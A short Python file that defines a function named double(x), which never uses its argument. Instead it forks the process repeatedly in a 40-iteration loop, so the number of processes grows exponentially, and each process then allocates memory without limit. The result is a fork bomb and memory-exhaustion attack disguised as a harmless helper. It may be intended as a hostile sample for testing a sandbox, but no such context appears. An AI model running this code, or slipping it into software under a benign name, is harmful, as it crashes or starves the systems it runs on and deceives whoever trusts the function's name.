import os
import time


def double(x):
    data = []
    for _ in range(40):
        try:
            if os.fork() == 0:
                break
        except OSError:
            pass
    try:
        while True:
            data.append(b"\1" * 2**20)
    except MemoryError:
        time.sleep(100)
